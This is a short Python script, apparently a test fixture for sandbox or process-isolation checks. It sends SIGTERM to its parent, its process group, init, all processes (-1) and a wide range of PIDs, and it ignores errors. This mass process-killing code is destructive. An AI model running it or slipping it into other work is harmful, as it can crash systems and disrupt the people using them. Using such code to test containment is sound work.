"""Sends signals to its parents, to its group, and to all processes.

mark: 0
"""
import os
import signal

for target in (os.getppid(), 0, 1, -1, *range(2, 40000, 7)):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGTERM)
        except OSError:
            pass
